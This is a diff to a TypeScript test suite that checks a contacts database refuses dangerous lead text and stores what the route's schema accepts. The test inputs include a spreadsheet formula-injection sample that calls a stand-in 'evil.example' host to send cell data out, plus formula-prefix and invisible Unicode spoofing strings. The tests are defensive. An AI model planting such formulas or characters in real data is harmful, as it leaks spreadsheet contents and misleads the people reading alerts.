@@ -15,7 +15,10 @@ import {
 } from "@/lib/attribution/campaign-touch";
 import { TOUCH_COLUMNS } from "@/lib/attribution/touch-columns";
 import { LEAD_COLUMNS, migrate, type LeadRow } from "@/lib/contact/migrations";
+import { contactRequestSchema } from "@/lib/contact/contact-schema";
+import { LeadRejectedError } from "@/lib/contact/leads-store-contract";
 import { readDoc } from "../support/docs";
+import { validContactRequest } from "../support/contact-request";
 import { postgresAvailable, startPostgres } from "../support/postgres-server";
 
 /** Just what these checks need from a database: run SQL, get rows or a SQLSTATE. */
@@ -128,6 +131,52 @@ function checks(name: string, open: () => Promise<Db>) {
       }
     });
 
+    it("refuses lead text a spreadsheet would run or a plain-text alert would misread, as the route does", async () => {
+      for (const bad of [
+        { company: '=HYPERLINK("https://evil.example/?d="&C2,"Ver ficha")' },
+        { company: "+1+1" },
+        { contact_name: "-2+3" },
+        { contact_name: "@SUM(A1)" },
+        { company: "Acme\u2028Correo: ceo@bigcorp.example" },
+        { company: "Acme\u0085x" },
+        { contact_name: "Ana\u009bx" },
+        { contact_name: "Ana\u200e Pérez" },
+        { contact_name: "Ana\u061c Pérez" },
+        { company: "Acme\u200b" },
+        { contact_name: "\ufeffAna" },
+        { last_utm_campaign: "a\u2028b" },
+        { last_utm_source: "a\u200bb" },
+        { first_landing_url: "https://pagos.example/mx?utm_source=a%E2%80%A8\u2029" },
+      ]) {
+        expect(await sqlstate(asAnon(db, ...insert(lead(bad)))), JSON.stringify(bad)).toBe("23514");
+      }
+      // The route answers such a refusal with 422 naming the field.
+      const refusal = await asAnon(db, ...insert(lead({ contact_name: "=1+1" }))).catch((e: Error) => e.message);
+      expect(new LeadRejectedError(String(refusal)).field).toBe("contact");
+      expect(
+        await sqlstate(asAnon(db, ...insert(lead({ company: "A+B Consultores", contact_name: "Ana-María" })))),
+      ).toBe("ok");
+    });
+
+    it("stores exactly the names the route accepts (2,000 generated values)", async () => {
+      const name = fc.string({
+        unit: fc.oneof(
+          fc.constantFrom("=", "+", "-", "@", " ", "\t", "\u2028", "\u0085", "\u200e", "\u200b", "\ufeff", "é", "😀"),
+          fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
+        ),
+        maxLength: 12,
+      });
+      await fc.assert(
+        fc.asyncProperty(name, async (value) => {
+          const parsed = contactRequestSchema.safeParse({ ...validContactRequest(), company: value, contact: value });
+          if (!parsed.success) return;
+          const row = lead({ company: parsed.data.company, contact_name: parsed.data.contact });
+          expect(await sqlstate(asAnon(db, ...insert(row))), JSON.stringify(value)).toBe("ok");
+        }),
+        { numRuns: 2_000 },
+      );
+    });
+
     it("lets anon write only the columns the site sends: the date and the reported conversion are the server's", async () => {
       const row = lead();
       expect(await sqlstate(asAnon(db, ...insert(row, { created_at: "'1999-01-01'" })))).toBe("42501");
@@ -212,6 +261,8 @@ function checks(name: string, open: () => Promise<Db>) {
       const text = fc.string({
         unit: fc.oneof(
           fc.constant("\u202e"),
+          fc.constant("\u2028"),
+          fc.constant("\u200b"),
           fc.constant("\u0007"),
           fc.constant(" "),
           fc.constant("😀"),
